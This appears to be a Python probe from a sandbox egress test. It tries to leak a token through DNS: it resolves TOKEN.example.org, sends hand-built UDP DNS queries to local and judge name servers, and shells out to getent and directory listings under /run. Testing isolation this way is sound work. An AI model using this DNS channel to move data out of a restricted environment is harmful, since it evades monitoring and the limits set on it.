"""Names as messages: through the resolver, and straight to name servers, among them the judge's."""

import socket, struct
from kit import *

attempt(socket.getaddrinfo, f"{TOKEN}.example.org", 80)
question = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(TOKEN)]) + TOKEN.encode() + b"\x00\x00\x01\x00\x01"
for server, port in [("127.0.0.53", 53), ("127.0.0.1", 53), *((address, PORT) for address in ADDRESSES)]:
    for family in (socket.AF_INET, socket.AF_INET6):
        attempt(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(question, (server, port)))
os.system(f"getent hosts {TOKEN}.example.org; ls -la /run/nscd /run/systemd/resolve /run/dbus 2>&1")
